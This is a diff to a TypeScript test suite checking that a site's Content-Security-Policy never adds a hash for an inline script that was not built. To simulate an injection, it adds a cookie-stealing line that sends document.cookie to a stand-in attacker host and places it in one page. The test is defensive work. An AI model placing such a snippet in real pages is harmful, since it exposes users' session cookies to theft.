@@ -38,6 +38,8 @@ describe('inlineScriptHashes', () => {
   })
 })
 
+const injected = 'fetch("https://evil.example/?c=" + document.cookie)'
+
 describe('security headers on the served site', () => {
   let root: string
   let app: ReturnType<typeof createApp>
@@ -49,7 +51,8 @@ describe('security headers on the served site', () => {
     }
     const files = {
       'en/index.html': indexHtml,
-      'es/index.html': indexHtml,
+      // A page that carries a script nobody built (an injection, a template mistake).
+      'es/index.html': indexHtml.replace('</body>', `<script>${injected}</script></body>`),
       'en/404.html': indexHtml,
       'es/404.html': indexHtml,
     }
@@ -63,7 +66,17 @@ describe('security headers on the served site', () => {
   })
   afterAll(() => rmSync(root, { recursive: true, force: true }))
 
-  it('a page gets a CSP with the hash of its inline script, computed from the served HTML', async () => {
+  it('a page never widens its own policy: an inline script that was not built gets no hash', async () => {
+    const response = await app.request('/', { headers: { 'accept-language': 'es' } })
+    expect(await response.text()).toContain(injected)
+    const csp = response.headers.get('content-security-policy') ?? ''
+    const injectedHash = `'sha256-${createHash('sha256').update(injected).digest('base64')}'`
+    expect(csp).not.toContain(injectedHash)
+    expect(csp).toContain(expectedHash)
+    expect(csp).toBe((await app.request('/')).headers.get('content-security-policy'))
+  })
+
+  it('a page gets a CSP with the hash of the known inline script, computed at build time', async () => {
     const response = await app.request('/')
     expect(response.status).toBe(200)
     const csp = response.headers.get('content-security-policy') ?? ''
